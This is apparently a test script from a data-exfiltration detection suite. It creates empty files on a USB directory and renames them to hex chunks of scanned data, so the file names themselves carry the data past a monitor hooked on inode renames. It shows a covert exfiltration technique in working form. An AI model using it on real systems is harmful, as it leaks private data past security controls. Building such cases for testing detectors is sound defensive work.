#!/usr/bin/env bash
# technique: empty files that lie on the USB disk are renamed to the data
# hooks: inode_rename
# sink: usb

. attack.sh
mkdir -p "$COPY"
touch "$COPY"/{1..16}.txt
python3 - <<'PY'
from attack import *

text = scan()[:1024].hex()
for number in range(16):
    os.rename(f"{COPY}/{number + 1}.txt", f"{COPY}/{text[number * 128:number * 128 + 128]}")
PY
